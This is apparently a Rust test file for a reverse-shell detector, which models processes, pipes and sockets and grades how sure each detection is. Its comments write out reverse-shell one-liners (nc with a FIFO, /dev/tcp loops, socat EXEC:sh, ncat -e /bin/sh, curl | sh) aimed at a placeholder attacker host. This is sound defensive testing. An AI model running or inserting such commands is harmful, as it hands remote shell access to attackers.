use super::is_half as is_half_of;
use super::*;

const PEER: &str = "203.0.113.66:4444";
const SHELL: Program = Program { is_interpreter: true, is_brought_along: false, is_relay: false };
const RELAY: Program = Program { is_interpreter: false, is_brought_along: false, is_relay: true };
const OTHER: Program = Program { is_interpreter: false, is_brought_along: false, is_relay: false };
const OWN: Program = Program { is_interpreter: false, is_brought_along: true, is_relay: false };
const CONNECTION: Object = Object::Socket(1);

/// Facts in a few words.
#[derive(Default)]
struct World(Facts);

impl World {
    /// A connection to the attacker with the inode 1, and one to a registry with 2.
    fn new() -> Self {
        let mut world = Self::default();
        world.0.connections.insert(1, Connection::Remote(PEER.parse().unwrap()));
        world.0.connections.insert(2, Connection::Remote("192.0.2.7:443".parse().unwrap()));
        world
    }

    fn pair(mut self, one: u64, other: u64) -> Self {
        self.0.connections.insert(one, Connection::Local(other));
        self.0.connections.insert(other, Connection::Local(one));
        self
    }

    /// A process with descriptors as (number, object, mode).
    fn with(mut self, program: Program, held: &[(u32, Object, &str)]) -> Self {
        let pid = u32::try_from(self.0.holders.len()).unwrap() + 10;
        let descriptors = held.iter().map(|(number, object, mode)| Descriptor {
            number: *number,
            object: *object,
            reads: mode.contains('r'),
            writes: mode.contains('w'),
        });
        self.0.holders.push(Holder {
            key: ProcessKey { pid, start_time: 1 },
            parent: 1,
            executable: format!("program-{pid}"),
            program,
            descriptors: descriptors.collect(),
        });
        self
    }

    fn certainty(&self) -> Option<Certainty> {
        let found = leads(&self.0);
        assert!(found.len() <= 1, "{found:#?}");
        found.first().map(|lead| {
            assert_eq!(lead.peer, PEER.parse().unwrap(), "{lead:?}");
            assert!(lead.way.contains(PEER), "{lead:?}");
            lead.certainty
        })
    }
}

const fn pipe(number: u64) -> Object {
    Object::Pipe(14, number)
}

const SURE: Option<Certainty> = Some(Certainty::Structure);
const BY_FLOW: Option<Certainty> = Some(Certainty::Flow);
const BY_REPEATED_FLOW: Option<Certainty> = Some(Certainty::RepeatedFlow);

#[test]
fn streams_on_the_connection_itself() {
    let direct = [(0, CONNECTION, "rw"), (1, CONNECTION, "rw"), (2, CONNECTION, "rw")];
    assert_eq!(World::new().with(SHELL, &direct).certainty(), SURE);
    // Another program with such streams executes no commands.
    assert_eq!(World::new().with(OTHER, &direct).certainty(), None);
    // One direction alone is a download or an upload.
    assert_eq!(World::new().with(SHELL, &[(0, CONNECTION, "rw")]).certainty(), None);
    assert_eq!(World::new().with(SHELL, &[(1, CONNECTION, "rw")]).certainty(), None);
}

#[test]
fn a_program_that_the_job_brought_along_can_be_a_shell() {
    let direct = [(0, CONNECTION, "rw"), (1, CONNECTION, "rw")];
    assert_eq!(World::new().with(OWN, &direct).certainty(), SURE);
    // A build tool's service on pipes of a program with a connection.
    let service = World::new()
        .with(OWN, &[(0, pipe(1), "r"), (1, pipe(2), "w")])
        .with(SHELL, &[(20, pipe(1), "w"), (22, pipe(2), "r"), (24, CONNECTION, "rw")]);
    assert_eq!(service.certainty(), None);
}

#[test]
fn two_connections_to_one_peer_only_over_raw_relays() {
    let mut world = World::new();
    world.0.connections.insert(3, Connection::Remote("203.0.113.66:5555".parse().unwrap()));
    let second = Object::Socket(3);
    let shell = [(0, pipe(1), "r"), (1, pipe(2), "w")];
    let first_relay = [(1, pipe(1), "w"), (3, CONNECTION, "rw")];
    let second_relay = [(0, pipe(2), "r"), (3, second, "rw")];
    let facts = world.0;
    let with = |program| {
        World(facts.clone())
            .with(SHELL, &shell)
            .with(program, &first_relay)
            .with(program, &second_relay)
    };
    // telnet A 4444 | sh | telnet A 5555
    assert_eq!(with(RELAY).certainty(), SURE);
    // curl A | python | curl A
    assert_eq!(with(OTHER).certainty(), None);
}

#[test]
fn a_fifo_and_a_program_with_it_on_its_streams() {
    // sh -i <f 2>&1 | nc A 4444 >f, whatever nc is called
    let fifo = Object::Pipe(30, 5);
    let world = World::new()
        .with(SHELL, &[(0, fifo, "r"), (1, pipe(1), "w"), (2, pipe(1), "w")])
        .with(OTHER, &[(0, pipe(1), "r"), (1, fifo, "w"), (3, CONNECTION, "rw")]);
    assert_eq!(world.certainty(), SURE);
}

#[test]
fn filters_in_between() {
    let world = World::new()
        .with(SHELL, &[(0, pipe(1), "r"), (1, pipe(2), "w")])
        // cat <&5
        .with(OTHER, &[(0, CONNECTION, "rw"), (1, pipe(1), "w")])
        // tee log
        .with(OTHER, &[(0, pipe(2), "r"), (1, pipe(3), "w")])
        // cat >&5
        .with(OTHER, &[(0, pipe(3), "r"), (1, CONNECTION, "rw")]);
    assert_eq!(world.certainty(), SURE);
}

#[test]
fn filters_with_a_fifo_of_their_own() {
    // cat f | sh | tee log | nc A 4444 >f
    let fifo = Object::Pipe(30, 5);
    let world = World::new()
        .with(OTHER, &[(0, pipe(9), "r"), (1, pipe(1), "w"), (3, fifo, "r")])
        .with(SHELL, &[(0, pipe(1), "r"), (1, pipe(2), "w")])
        .with(OTHER, &[(0, pipe(2), "r"), (1, pipe(3), "w")])
        .with(OTHER, &[(0, pipe(3), "r"), (1, fifo, "w"), (3, CONNECTION, "rw")]);
    assert_eq!(world.certainty(), SURE);
}

#[test]
fn a_loop_that_reads_from_the_connection_and_writes_to_a_descriptor_of_it() {
    // exec 5<>/dev/tcp/A/4444; cat <&5 | while read line; do $line >&5; done
    let world = World::new()
        .with(SHELL, &[(0, pipe(1), "r"), (5, CONNECTION, "rw")])
        .with(OTHER, &[(0, CONNECTION, "rw"), (1, pipe(1), "w")]);
    // Or: exec 5<>/dev/tcp/A/80; echo GET / >&5; cat <&5 | while read line; do …; done
    assert_eq!(world.certainty(), BY_REPEATED_FLOW);
    // exec 5<>/dev/tcp/A/80; echo GET / >&5; read line <&5
    let client = World::new().with(SHELL, &[(0, CONNECTION, "rw"), (5, CONNECTION, "rw")]);
    assert_eq!(client.certainty(), None);
}

#[test]
fn a_pipeline_that_inherits_a_connection() {
    // exec 9<>/dev/tcp/A/80; sleep 1 | while read line; do …; done | sort
    let inherited = (9, CONNECTION, "rw");
    let world = World::new()
        .with(OTHER, &[(1, pipe(1), "w"), inherited])
        .with(SHELL, &[(0, pipe(1), "r"), (1, pipe(2), "w"), inherited])
        .with(OTHER, &[(0, pipe(2), "r"), inherited]);
    assert_eq!(world.certainty(), BY_REPEATED_FLOW);
}

#[test]
fn terminals_of_relays() {
    let terminal = [(0, Object::Terminal(3), "rw"), (1, Object::Terminal(3), "rw")];
    let master = (5, Object::TerminalMaster(3), "rw");
    // socat TCP:A:4444 EXEC:sh,pty
    let socat = World::new().with(SHELL, &terminal).with(RELAY, &[master, (6, CONNECTION, "rw")]);
    assert_eq!(socat.certainty(), SURE);
    // python: dup2 on its streams, then pty.spawn
    let python = World::new()
        .with(SHELL, &terminal)
        .with(OTHER, &[(0, CONNECTION, "rw"), (1, CONNECTION, "rw"), master]);
    assert_eq!(python.certainty(), SURE);
    // A program with a terminal and a connection: expect, a terminal server, or a relay of one's own.
    let own = World::new().with(SHELL, &terminal).with(OTHER, &[master, (6, CONNECTION, "rw")]);
    assert_eq!(own.certainty(), BY_FLOW);
    // script | nc, with a shell on script's terminal
    let script = World::new()
        .with(SHELL, &terminal)
        .with(OTHER, &[(0, pipe(1), "r"), (1, pipe(2), "w"), master])
        .with(OTHER, &[(0, pipe(2), "r"), (1, pipe(1), "w"), (3, CONNECTION, "rw")]);
    assert_eq!(script.certainty(), SURE);
}

#[test]
fn socket_pairs_and_loopback_connections() {
    let shell = [(0, Object::Socket(10), "rw"), (1, Object::Socket(10), "rw")];
    // socat TCP:A:4444 EXEC:sh
    let socat = World::new()
        .pair(10, 11)
        .with(SHELL, &shell)
        .with(RELAY, &[(5, Object::Socket(11), "rw"), (6, CONNECTION, "rw")]);
    assert_eq!(socat.certainty(), SURE);
    // node: child_process.spawn('/bin/sh') and pipe(); npm and an install script look the same
    let node = World::new()
        .pair(10, 11)
        .pair(12, 13)
        .with(SHELL, &[(0, Object::Socket(10), "rw"), (1, Object::Socket(12), "rw")])
        .with(
            SHELL,
            &[
                (20, Object::Socket(11), "rw"),
                (22, Object::Socket(13), "rw"),
                (24, CONNECTION, "rw"),
            ],
        );
    assert_eq!(node.certainty(), BY_FLOW);
    // Two relays, one after the other.
    let chain = World::new()
        .pair(10, 11)
        .pair(14, 15)
        .with(SHELL, &shell)
        .with(RELAY, &[(5, Object::Socket(11), "rw"), (6, Object::Socket(14), "rw")])
        .with(RELAY, &[(5, Object::Socket(15), "rw"), (6, CONNECTION, "rw")]);
    assert_eq!(chain.certainty(), SURE);
}

#[test]
fn ordinary_work_leads_nowhere() {
    // curl A | sh
    let piped = World::new()
        .with(SHELL, &[(0, pipe(1), "r"), (1, pipe(9), "w")])
        .with(OTHER, &[(1, pipe(1), "w"), (5, CONNECTION, "rw")]);
    assert_eq!(piped.certainty(), None);
    // ssh host command, git over ssh: git has pipes to ssh on other descriptors, its own streams are the step's.
    let git = World::new()
        .with(OTHER, &[(0, pipe(8), "r"), (1, pipe(9), "w"), (5, pipe(1), "w"), (6, pipe(2), "r")])
        .with(OTHER, &[(0, pipe(1), "r"), (1, pipe(2), "w"), (3, CONNECTION, "rw")]);
    assert_eq!(git.certainty(), None);
    // GIT_SSH_COMMAND and ProxyCommand: a shell with the same ends as the program that it has started.
    let streams = [(0, pipe(1), "r"), (1, pipe(2), "w")];
    let wrapped = World::new()
        .with(OTHER, &[(5, pipe(1), "w"), (6, pipe(2), "r")])
        .with(SHELL, &streams)
        .with(RELAY, &[streams[0], streams[1], (3, CONNECTION, "rw")]);
    assert_eq!(wrapped.certainty(), None);
    // A test server on loopback with a shell as its child (CGI).
    let cgi = World::new()
        .pair(20, 21)
        .with(SHELL, &[(0, Object::Socket(20), "rw"), (1, Object::Socket(20), "rw")])
        .with(OTHER, &[(3, Object::Socket(21), "rw")]);
    assert_eq!(cgi.certainty(), None);
    // Two peers: what comes from one goes to the other.
    let two = World::new().with(SHELL, &[(0, Object::Socket(2), "rw"), (1, CONNECTION, "rw")]);
    assert_eq!(two.certainty(), None);
}

#[test]
fn a_relay_hands_its_connection_down_to_the_shell_that_it_starts() {
    // ncat -e /bin/sh A 4444: the shell has inherited ncat's socket and ends of pipes.
    let shell = [(0, pipe(1), "r"), (1, pipe(2), "w"), (4, CONNECTION, "rw")];
    let relay = [(4, CONNECTION, "rw"), (6, pipe(1), "w"), (7, pipe(2), "r")];
    let mut ncat = World::new().with(RELAY, &relay).with(SHELL, &shell);
    // Side by side, the shell may be the one that has made both.
    assert_eq!(ncat.certainty(), BY_REPEATED_FLOW);
    ncat.0.holders[1].parent = ncat.0.holders[0].key.pid;
    assert_eq!(ncat.certainty(), SURE);
    // proc_open of PHP: what it does has to be seen, and by what.
    let mut php = World::new().with(SHELL, &relay).with(SHELL, &shell);
    php.0.holders[1].parent = php.0.holders[0].key.pid;
    let found = leads(&php.0);
    assert_eq!(found.len(), 1);
    assert_eq!((found[0].certainty, found[0].fed_by), (Certainty::RepeatedFlow, Some(pipe(1))));
}

#[test]
fn what_a_shell_is_fed_by() {
    let node = World::new()
        .pair(10, 11)
        .pair(12, 13)
        .with(SHELL, &[(0, Object::Socket(10), "rw"), (1, Object::Socket(12), "rw")])
        .with(
            SHELL,
            &[
                (20, Object::Socket(11), "rw"),
                (22, Object::Socket(13), "rw"),
                (24, CONNECTION, "rw"),
            ],
        );
    assert_eq!(leads(&node.0)[0].fed_by, Some(Object::Socket(11)));
    // A shell that answers on a connection of its own is not fed, whatever is in the pipe that it reads.
    let client = World::new()
        .with(OTHER, &[(1, pipe(1), "w"), (9, CONNECTION, "rw")])
        .with(SHELL, &[(0, pipe(1), "r"), (9, CONNECTION, "rw")]);
    assert_eq!(leads(&client.0)[0].fed_by, None);
}

#[test]
fn a_shell_that_reads_commands_by_itself() {
    let log = (1, pipe(9), "w");
    let both = [(1, CONNECTION, "rw"), (2, CONNECTION, "rw"), (5, CONNECTION, "rw")];
    let output = [(1, CONNECTION, "rw"), (2, pipe(9), "w"), (5, CONNECTION, "rw")];
    let judge = |program, held: &[(u32, Object, &str)], socket, is_command| {
        let world = World::new().with(program, held);
        reader_of_its_own(&world.0, world.0.holders[0].key, socket, || is_command)
    };
    let found = judge(SHELL, &both, 1, false).unwrap();
    assert_eq!((found.certainty, found.peer), (Certainty::Structure, PEER.parse().unwrap()));
    assert!(found.way.contains(PEER), "{found:?}");
    // read banner <&5; echo EHLO >&5
    assert_eq!(judge(SHELL, &output, 1, false), None);
    assert!(judge(SHELL, &output, 1, true).is_some());
    // What it reads from one goes nowhere, or to another.
    assert_eq!(judge(SHELL, &[log, (5, CONNECTION, "rw")], 1, true), None);
    assert_eq!(judge(SHELL, &both, 2, true), None);
    assert_eq!(judge(OTHER, &both, 1, true), None);
}

#[test]
fn half_of_a_reverse_shell_whose_other_half_is_on_its_way() {
    let shell = [(0, pipe(1), "r"), (1, pipe(2), "w")];
    let relay = [(1, pipe(1), "w"), (3, CONNECTION, "rw")];
    let with = |last, held: &[(u32, Object, &str)]| {
        World::new().with(SHELL, &shell).with(RELAY, &relay).with(last, held)
    };
    let is_half = |world: &World, is_starting: bool| {
        is_half_of(&world.0, world.0.holders[0].key, |_| is_starting)
    };
    // nc A 4444 | sh | nc A 5555, which is not connected yet
    assert!(is_half(&with(RELAY, &[(0, pipe(2), "r")]), false));
    // curl A | sh | tee log, which is about to be executed, and is executed
    assert!(is_half(&with(OTHER, &[(0, pipe(2), "r")]), true));
    assert!(!is_half(&with(OTHER, &[(0, pipe(2), "r")]), false));
    // nc A 4444 | sh | tee log | nc A 5555
    let longer =
        with(OTHER, &[(0, pipe(2), "r"), (1, pipe(3), "w")]).with(RELAY, &[(0, pipe(3), "r")]);
    assert!(is_half(&longer, false));
}

#[test]
fn a_relay_that_looks_a_name_up_has_no_peer_yet() {
    // sh -i <f 2>&1 | telnet A 4444 >f, while telnet asks for the name of A
    let fifo = Object::Pipe(30, 5);
    let mut world = World::new()
        .with(SHELL, &[(0, fifo, "r"), (1, pipe(1), "w")])
        .with(RELAY, &[(0, pipe(1), "r"), (1, fifo, "w"), (3, CONNECTION, "rw")]);
    world.0.look_ups.insert(1);
    assert_eq!(world.certainty(), None);
    // A shell on such a socket is one all the same.
    let mut direct = World::new().with(SHELL, &[(0, CONNECTION, "rw"), (1, CONNECTION, "rw")]);
    direct.0.look_ups.insert(1);
    assert_eq!(direct.certainty(), SURE);
}
